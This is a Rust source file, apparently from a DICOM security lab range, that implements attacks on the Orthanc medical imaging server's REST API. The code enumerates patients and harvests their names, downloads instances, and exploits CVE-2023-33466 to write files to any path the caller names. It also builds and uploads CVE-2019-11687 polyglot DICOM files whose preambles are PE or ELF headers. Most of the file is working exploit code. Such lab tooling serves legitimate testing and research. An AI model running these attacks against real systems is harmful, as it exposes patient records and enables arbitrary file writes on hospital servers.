//! Orthanc's REST API from the attacker's seat: `rest-probe` (unauthenticated or
//! given-credential access and download), `rest-write` (CVE-2023-33466: `POST
//! /instances/{id}/export` writes the instance to any path the caller names; Orthanc 1.12.0
//! disabled the route by default behind `RestApiWriteToFileSystemEnabled`, which Debian
//! backported to 1.10.1) and `upload-polyglot` (CVE-2019-11687: a Part 10 file whose
//! 128-byte preamble is a PE or ELF header).
//!
//! The polyglot is REST-only on purpose: over DICOM (C-STORE) the preamble cannot travel.
//! A P-DATA-TF carries the data set only; the preamble, `DICM` and the file meta group exist
//! only in files, and the receiver writes its own preamble. So there is no `store
//! --preamble`.
//!
//! HTTP answers (401, 403, 404, 500 ...) are results, reported with their status; only a
//! failure to reach the server is "unreachable" (exit 4). Every request has a connect and
//! an overall timeout; every body read is bounded.

use crate::error::AgentError;
use protocol::result::{RestProbeResult, RestWriteResult, UploadPolyglotResult, to_value};
use serde_json::Value;
use std::io::Read;
use std::time::{Duration, Instant};

/// Largest JSON body read.
pub const MAX_JSON: u64 = 16 << 20;
/// Largest file download counted (the rest is not read).
pub const MAX_DOWNLOAD: u64 = 1 << 30;
/// At most this many patients are looked up for their names.
pub const MAX_PATIENT_LOOKUPS: usize = 50;

/// A small HTTP client for one Orthanc.
pub struct Rest {
    base: String,
    auth: Option<String>,
    agent: ureq::Agent,
}

/// One HTTP answer (status and body, bounded), or a transport failure.
pub struct Answer {
    pub status: u16,
    pub body: Vec<u8>,
    /// The body was longer than the bound.
    pub truncated: bool,
    pub total: u64,
}

impl Answer {
    pub fn json(&self) -> Option<Value> {
        serde_json::from_slice(&self.body).ok()
    }
    /// The body as text (at most 300 characters), for error messages.
    pub fn text(&self) -> String {
        let s = String::from_utf8_lossy(&self.body);
        let s = s.trim();
        s.chars().take(300).collect()
    }
}

/// RFC 4648 base64, for HTTP Basic authentication.
pub fn base64(data: &[u8]) -> String {
    const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for c in data.chunks(3) {
        let b = [c[0], *c.get(1).unwrap_or(&0), *c.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= c.len() {
                out.push(T[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

impl Rest {
    pub fn new(
        url: &str,
        user: Option<&str>,
        password: Option<&str>,
        timeout: Duration,
    ) -> Result<Rest, AgentError> {
        let base = url.trim_end_matches('/').to_string();
        if !base.starts_with("http://") {
            return Err(AgentError::other(format!(
                "--url '{url}' must start with http:// (this client has no TLS)"
            )));
        }
        let auth = match (user, password) {
            (Some(u), p) => Some(format!(
                "Basic {}",
                base64(format!("{u}:{}", p.unwrap_or("")).as_bytes())
            )),
            (None, Some(_)) => return Err(AgentError::other("--password needs --user")),
            (None, None) => None,
        };
        let agent = ureq::AgentBuilder::new()
            .timeout_connect(timeout)
            .timeout(timeout * 6)
            .redirects(0)
            .user_agent("dicom-range lab-agent")
            .build();
        Ok(Rest { base, auth, agent })
    }

    pub fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base)
    }

    fn send(
        &self,
        method: &str,
        path: &str,
        body: Option<(&str, &[u8])>,
        limit: u64,
    ) -> Result<Answer, AgentError> {
        let mut req = self.agent.request(method, &self.url(path));
        if let Some(a) = &self.auth {
            req = req.set("Authorization", a);
        }
        let r = match body {
            Some((ctype, data)) => req.set("Content-Type", ctype).send_bytes(data),
            None => req.call(),
        };
        let resp = match r {
            Ok(r) => r,
            Err(ureq::Error::Status(_, r)) => r,
            Err(ureq::Error::Transport(t)) => {
                return Err(AgentError::unreachable(format!(
                    "{method} {} failed: {t}",
                    self.url(path)
                )));
            }
        };
        let status = resp.status();
        let mut body = Vec::new();
        let mut reader = resp.into_reader().take(limit + 1);
        // Count the whole body but keep at most `keep` bytes of it.
        let keep = MAX_JSON.min(limit) as usize;
        let mut buf = vec![0u8; 64 * 1024];
        let mut total = 0u64;
        loop {
            let n = match reader.read(&mut buf) {
                Ok(0) => break,
                Ok(n) => n,
                Err(e) => {
                    return Err(AgentError::other(format!(
                        "reading the answer to {method} {} failed after {total} bytes: {e}",
                        self.url(path)
                    )));
                }
            };
            total += n as u64;
            if body.len() < keep {
                let take = n.min(keep - body.len());
                body.extend_from_slice(&buf[..take]);
            }
        }
        Ok(Answer {
            status,
            truncated: total > limit,
            total: total.min(limit),
            body,
        })
    }

    pub fn get(&self, path: &str) -> Result<Answer, AgentError> {
        self.send("GET", path, None, MAX_JSON)
    }

    pub fn get_counted(&self, path: &str, limit: u64) -> Result<Answer, AgentError> {
        self.send("GET", path, None, limit)
    }

    pub fn post(&self, path: &str, ctype: &str, data: &[u8]) -> Result<Answer, AgentError> {
        self.send("POST", path, Some((ctype, data)), MAX_JSON)
    }
}

/// `rest-probe`: what the REST API gives away.
pub fn probe(rest: &Rest, download: bool) -> Result<Value, (Value, AgentError)> {
    let start = Instant::now();
    let mut v = RestProbeResult {
        action: "rest-probe".into(),
        authenticated: rest.auth.is_some(),
        url: rest.base.clone(),
        ..Default::default()
    };
    let mut status = serde_json::Map::new();
    // The first request tells whether the server is there at all.
    let sys = match rest.get("/system") {
        Ok(a) => a,
        Err(e) => return Err((to_value(&v), e)),
    };
    status.insert("/system".into(), Value::from(sys.status));
    if sys.status == 200
        && let Some(j) = sys.json()
    {
        v.orthanc_version = j["Version"].clone();
        v.dicom_aet = j["DicomAet"].clone();
        v.name = j["Name"].clone();
    }
    let mut names = Vec::new();
    let mut readable = false;
    let mut first_error: Option<String> = None;
    fn note(
        path: &str,
        a: &Answer,
        status: &mut serde_json::Map<String, Value>,
        first_error: &mut Option<String>,
    ) {
        status.insert(path.into(), Value::from(a.status));
        if a.status != 200 && first_error.is_none() {
            *first_error = Some(format!("GET {path}: HTTP {} {}", a.status, a.text()));
        }
    }
    match rest.get("/patients") {
        Ok(a) => {
            note("/patients", &a, &mut status, &mut first_error);
            if a.status == 200
                && let Some(ids) = a.json().and_then(|j| j.as_array().cloned())
            {
                readable = true;
                v.patients = Some(ids.len() as u64);
                for id in ids
                    .iter()
                    .filter_map(|i| i.as_str())
                    .take(MAX_PATIENT_LOOKUPS)
                {
                    if let Ok(p) = rest.get(&format!("/patients/{id}"))
                        && p.status == 200
                        && let Some(name) = p.json().and_then(|j| {
                            j["MainDicomTags"]["PatientName"].as_str().map(String::from)
                        })
                        && !names.contains(&name)
                    {
                        names.push(name);
                    }
                }
            }
        }
        Err(e) => first_error = first_error.or(Some(e.message)),
    }
    let mut first_instance = None;
    match rest.get("/instances") {
        Ok(a) => {
            note("/instances", &a, &mut status, &mut first_error);
            if a.status == 200
                && let Some(ids) = a.json().and_then(|j| j.as_array().cloned())
            {
                readable = true;
                v.instances = Some(ids.len() as u64);
                first_instance = ids.first().and_then(|i| i.as_str()).map(String::from);
            }
        }
        Err(e) => first_error = first_error.or(Some(e.message)),
    }
    if download && let Some(id) = &first_instance {
        v.instance = Some(id.clone());
        let path = format!("/instances/{id}/file");
        match rest.get_counted(&path, MAX_DOWNLOAD) {
            Ok(a) => {
                status.insert(path.clone(), Value::from(a.status));
                if a.status == 200 {
                    v.downloaded_bytes = Some(a.total);
                    v.download_is_dicom = Some(a.body.len() >= 132 && &a.body[128..132] == b"DICM");
                }
            }
            Err(e) => first_error = first_error.or(Some(e.message)),
        }
        let path = format!("/instances/{id}/simplified-tags");
        match rest.get(&path) {
            Ok(a) => {
                status.insert(path.clone(), Value::from(a.status));
                if a.status == 200
                    && let Some(name) = a
                        .json()
                        .and_then(|j| j["PatientName"].as_str().map(String::from))
                {
                    v.instance_patient_name = Some(name.clone());
                    if !names.contains(&name) {
                        names.push(name);
                    }
                }
            }
            Err(e) => first_error = first_error.or(Some(e.message)),
        }
    }
    v.status = status;
    v.patient_names = names;
    v.success = readable;
    v.error = first_error;
    v.elapsed_ms = Some(start.elapsed().as_millis() as u64);
    Ok(to_value(&v))
}

/// The kinds of preamble `upload-polyglot` writes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Preamble {
    /// A DOS/PE header (`MZ`, `e_lfanew` -> `PE\0\0`, AMD64 COFF header): CVE-2019-11687.
    Pe,
    /// An ELF64 header (`\x7fELF`, x86-64 executable): CVE-2019-11687.
    Elf,
    /// A little-endian TIFF header (`II*\0`): legitimate (PS3.10 7.5 allows it).
    Tiff,
}

impl Preamble {
    pub fn name(self) -> &'static str {
        match self {
            Preamble::Pe => "pe",
            Preamble::Elf => "elf",
            Preamble::Tiff => "tiff",
        }
    }

    /// The 128 bytes.
    pub fn bytes(self) -> [u8; 128] {
        let mut p = [0u8; 128];
        match self {
            Preamble::Pe => {
                p[0..2].copy_from_slice(b"MZ");
                p[2..4].copy_from_slice(&0x0090u16.to_le_bytes()); // e_cblp
                p[4..6].copy_from_slice(&3u16.to_le_bytes()); // e_cp
                p[8..10].copy_from_slice(&4u16.to_le_bytes()); // e_cparhdr
                p[0x0C..0x0E].copy_from_slice(&0xFFFFu16.to_le_bytes()); // e_maxalloc
                p[0x10..0x12].copy_from_slice(&0x00B8u16.to_le_bytes()); // e_sp
                p[0x18..0x1A].copy_from_slice(&0x0040u16.to_le_bytes()); // e_lfarlc
                p[0x3C..0x40].copy_from_slice(&0x40u32.to_le_bytes()); // e_lfanew
                p[0x40..0x44].copy_from_slice(b"PE\0\0");
                p[0x44..0x46].copy_from_slice(&0x8664u16.to_le_bytes()); // Machine: AMD64
                p[0x54..0x56].copy_from_slice(&0x0022u16.to_le_bytes()); // Characteristics
            }
            Preamble::Elf => {
                p[0..4].copy_from_slice(b"\x7fELF");
                p[4] = 2; // ELFCLASS64
                p[5] = 1; // little endian
                p[6] = 1; // EV_CURRENT
                p[16..18].copy_from_slice(&2u16.to_le_bytes()); // ET_EXEC
                p[18..20].copy_from_slice(&0x3Eu16.to_le_bytes()); // x86-64
                p[20..24].copy_from_slice(&1u32.to_le_bytes()); // e_version
                p[52..54].copy_from_slice(&64u16.to_le_bytes()); // e_ehsize
            }
            Preamble::Tiff => {
                p[0..4].copy_from_slice(b"II*\0");
                p[4..8].copy_from_slice(&8u32.to_le_bytes()); // first IFD at 8, 0 entries
            }
        }
        p
    }
}

/// A small synthetic instance as a Part 10 file with the given preamble.
pub fn polyglot(preamble: Preamble, patient: &str) -> Result<Vec<u8>, AgentError> {
    let spec = crate::synth::StudySpec {
        modality: crate::synth::Modality::Ct,
        syntax: crate::synth::Syntax::ExplicitLe,
        instances: 1,
        patient_name: patient.to_string(),
        rows: 16,
        cols: 16,
        seed: std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos() as u64)
            .unwrap_or(7),
        ..Default::default()
    };
    let inst = crate::synth::generate(&spec)
        .map_err(AgentError::from)?
        .into_iter()
        .next()
        .ok_or_else(|| AgentError::other("the synthetic study is empty"))?;
    let path = std::env::temp_dir().join(format!(
        "lab-agent-polyglot-{}-{}.dcm",
        std::process::id(),
        spec.seed
    ));
    inst.write_part10(&path).map_err(AgentError::from)?;
    let bytes = std::fs::read(&path);
    let _ = std::fs::remove_file(&path);
    let mut bytes = bytes
        .map_err(|e| AgentError::other(format!("cannot read back {}: {e}", path.display())))?;
    if bytes.len() < 132 || &bytes[128..132] != b"DICM" {
        return Err(AgentError::other("the generated file is not Part 10"));
    }
    bytes[..128].copy_from_slice(&preamble.bytes());
    Ok(bytes)
}

/// `POST /instances` of raw Part 10 bytes: (answer, Orthanc ID).
fn upload(rest: &Rest, bytes: &[u8]) -> Result<(Answer, Option<String>), AgentError> {
    let a = rest.post("/instances", "application/dicom", bytes)?;
    let id = a.json().and_then(|j| j["ID"].as_str().map(String::from));
    Ok((a, id))
}

/// `upload-polyglot`.
pub fn upload_polyglot(rest: &Rest, preamble: Preamble) -> Result<Value, (Value, AgentError)> {
    let mut v = UploadPolyglotResult {
        action: "upload-polyglot".into(),
        preamble: preamble.name().into(),
        ..Default::default()
    };
    let bytes = match polyglot(preamble, "POLYGLOT^TEST") {
        Ok(b) => b,
        Err(e) => return Err((to_value(&v), e)),
    };
    v.bytes = Some(bytes.len() as u64);
    v.preamble_magic = Some(
        bytes[..4]
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect::<String>(),
    );
    let (a, id) = match upload(rest, &bytes) {
        Ok(x) => x,
        Err(e) => return Err((to_value(&v), e)),
    };
    v.http_status = Some(a.status);
    v.success = a.status == 200 && id.is_some();
    v.orthanc_id = id;
    if let Some(j) = a.json() {
        v.orthanc_status = Some(j["Status"].clone());
    }
    if a.status != 200 {
        v.error = Some(format!("HTTP {} {}", a.status, a.text()));
    }
    Ok(to_value(&v))
}

/// `rest-write` (CVE-2023-33466).
pub fn rest_write(rest: &Rest, path: &str) -> Result<Value, (Value, AgentError)> {
    let (v, error) = rest_write_line(rest, path);
    match error {
        None => Ok(to_value(&v)),
        Some(e) => Err((to_value(&v), e)),
    }
}

/// The line, and why the attack could not run (if it could not).
fn rest_write_line(rest: &Rest, path: &str) -> (RestWriteResult, Option<AgentError>) {
    let mut v = RestWriteResult {
        action: "rest-write".into(),
        path: path.into(),
        ..Default::default()
    };
    if !path.starts_with('/') {
        return (v, Some(AgentError::other("--path must be absolute")));
    }
    let list = match rest.get("/instances") {
        Ok(a) => a,
        Err(e) => return (v, Some(e)),
    };
    let mut id = None;
    if list.status == 200 {
        id = list
            .json()
            .and_then(|j| j.as_array().and_then(|a| a.first().cloned()))
            .and_then(|x| x.as_str().map(String::from));
    } else {
        v.http_status = Some(list.status);
        v.error = Some(format!(
            "GET /instances: HTTP {} {}",
            list.status,
            list.text()
        ));
        // Without read access there is no instance id to export: the attack failed.
        if list.status == 401 || list.status == 403 {
            return (v, None);
        }
    }
    if id.is_none() {
        let bytes = match polyglot(Preamble::Tiff, "EXPORT^CARRIER") {
            Ok(b) => b,
            Err(e) => return (v, Some(e)),
        };
        // A plain (zero) preamble: this instance only carries the export.
        let mut bytes = bytes;
        bytes[..128].fill(0);
        match upload(rest, &bytes) {
            Ok((a, Some(new_id))) if a.status == 200 => {
                v.uploaded = true;
                id = Some(new_id);
            }
            Ok((a, _)) => {
                v.http_status = Some(a.status);
                v.error = Some(format!(
                    "no instance stored and POST /instances answered HTTP {} {}",
                    a.status,
                    a.text()
                ));
                return (v, None);
            }
            Err(e) => return (v, Some(e)),
        }
    }
    let id = id.expect("set above");
    v.instance = Some(id.clone());
    match rest.post(
        &format!("/instances/{id}/export"),
        "text/plain",
        path.as_bytes(),
    ) {
        Ok(a) => {
            v.http_status = Some(a.status);
            v.success = a.status == 200;
            v.error = (a.status != 200).then(|| format!("HTTP {} {}", a.status, a.text()));
            (v, None)
        }
        Err(e) => (v, Some(e)),
    }
}

impl From<protocol::Preamble> for Preamble {
    fn from(p: protocol::Preamble) -> Self {
        match p {
            protocol::Preamble::Pe => Preamble::Pe,
            protocol::Preamble::Elf => Preamble::Elf,
            protocol::Preamble::Tiff => Preamble::Tiff,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_matches_rfc4648() {
        assert_eq!(base64(b""), "");
        assert_eq!(base64(b"f"), "Zg==");
        assert_eq!(base64(b"fo"), "Zm8=");
        assert_eq!(base64(b"foo"), "Zm9v");
        assert_eq!(base64(b"orthanc:orthanc"), "b3J0aGFuYzpvcnRoYW5j");
    }

    #[test]
    fn polyglots_keep_dicm_and_parse() {
        for p in [Preamble::Pe, Preamble::Elf, Preamble::Tiff] {
            let b = polyglot(p, "DOE^JANE").unwrap();
            assert_eq!(&b[128..132], b"DICM");
            assert_eq!(&b[..128], &p.bytes()[..]);
            let obj = dicom_object::from_reader(&b[128..]).unwrap();
            assert_eq!(
                obj.element_by_name("PatientName")
                    .unwrap()
                    .to_str()
                    .unwrap()
                    .trim(),
                "DOE^JANE"
            );
        }
        assert_eq!(&Preamble::Pe.bytes()[..2], b"MZ");
        assert_eq!(&Preamble::Pe.bytes()[0x40..0x44], b"PE\0\0");
        assert_eq!(&Preamble::Elf.bytes()[..4], b"\x7fELF");
    }
}
